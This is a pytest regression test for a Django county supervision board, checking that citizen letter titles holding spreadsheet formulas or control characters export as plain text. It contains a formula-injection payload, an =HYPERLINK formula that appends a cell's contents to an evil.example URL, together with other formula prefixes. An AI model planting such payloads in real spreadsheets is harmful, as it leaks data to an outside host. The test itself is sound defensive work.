"""Issue 11 V6/V7 on the supervision board: a citizen's letter whose title is a spreadsheet
formula wrapped in control characters used to break the export (HTTP 500) or, without them,
become a live formula in the office's workbook. Now it is text, shown as the citizen typed it."""

from io import BytesIO

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from conftest import PASSWORD
from opencounty.core.models import Unit
from opencounty.interaction.letters import actions as letter_actions
from opencounty.interaction.models import Letter
from opencounty.supervision.tests.helpers import staff

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?q="&C5,"点击查看详情")'


def hostile_letter(title: str) -> Letter:
    """A letter as the public mailbox form stores it (the form calls this action).

    No NUL: Django's form fields refuse it and PostgreSQL cannot store it, so it never
    reaches a stored title; every other control character can."""
    letter, _code = letter_actions.submit_letter(
        letter_kind=Letter.Kind.COMPLAINT,
        addressed_to=Unit.objects.get(code="T01"),
        title=title,
        content="正文\x02\x1b[2J内容",
        name="王\x07示范",
        phone="13900001111",
        client_ip="203.0.113.77",
    )
    return letter


def exported_cell(client, receipt: str):
    response = client.get(reverse("supervision_admin:board_export"))
    assert response.status_code == 200
    sheet = load_workbook(BytesIO(response.content)).active
    row = next(row for row in sheet.iter_rows(min_row=4) if row[1].value == receipt)
    return row[2]


def test_a_formula_title_is_exported_as_text_not_as_a_formula(client):
    letter = hostile_letter(FORMULA)
    client.login(username=staff("001").username, password=PASSWORD)
    cell = exported_cell(client, letter.case.receipt_number)
    assert cell.data_type == "s" and cell.quotePrefix
    assert cell.value == FORMULA  # readable exactly as typed, never evaluated


def test_control_characters_in_a_title_no_longer_break_the_export(client):
    letter = hostile_letter("投诉\x01噪音\x08扰民\x0b第二行\x1f" + FORMULA[:20])
    client.login(username=staff("001").username, password=PASSWORD)
    cell = exported_cell(client, letter.case.receipt_number)
    assert cell.value == "投诉噪音扰民\n第二行" + FORMULA[:20]
    assert cell.data_type == "s"
    assert client.get(reverse("supervision_admin:board")).status_code == 200


@pytest.mark.parametrize("prefix", ["+", "-", "@", "\t=", "\r="])
def test_every_formula_prefix_is_made_text(client, prefix):
    letter = hostile_letter(prefix + "SUM(1,2)")
    client.login(username=staff("001").username, password=PASSWORD)
    cell = exported_cell(client, letter.case.receipt_number)
    assert cell.data_type == "s" and cell.quotePrefix
    assert cell.value.endswith("SUM(1,2)")
